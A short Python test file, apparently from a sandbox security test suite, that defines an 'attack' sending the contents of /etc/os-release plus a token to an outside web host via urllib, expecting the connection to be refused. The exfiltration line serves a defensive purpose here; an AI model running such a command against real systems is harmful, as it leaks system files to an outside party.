"""A file is posted to a web server outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    code = f"urllib.request.urlopen('http://{WEB}/', data=open('/etc/os-release', 'rb').read() + b'{ground.token}')"
    return ground.arrives(code)


ATTACK = Attack("TCP to the outside", attempt, recorded=("network.refused", f"tcp {WEB}:80"))
